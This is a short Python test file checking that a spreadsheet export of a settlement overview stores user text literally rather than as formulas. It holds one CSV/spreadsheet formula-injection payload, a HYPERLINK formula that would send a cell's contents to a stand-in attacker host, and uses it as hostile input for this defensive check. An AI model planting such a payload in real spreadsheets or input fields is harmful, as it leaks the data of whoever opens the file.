"""The settlement overview keeps users' text as text, never as a formula."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from verbund.alliances.models import Alliance

from .test_views import client_for
from .test_views import settled as settled  # the fixture

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


def test_overview_xlsx_escapes_user_text(ss, service, settled):
    Alliance.objects.filter(pk=ss.alliance.pk).update(name=EVIL)

    response = client_for(ss.coordinator).get(f"/dienste/abrechnung/{settled.pk}/uebersicht.xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert EVIL in [cell.value for cell in cells]
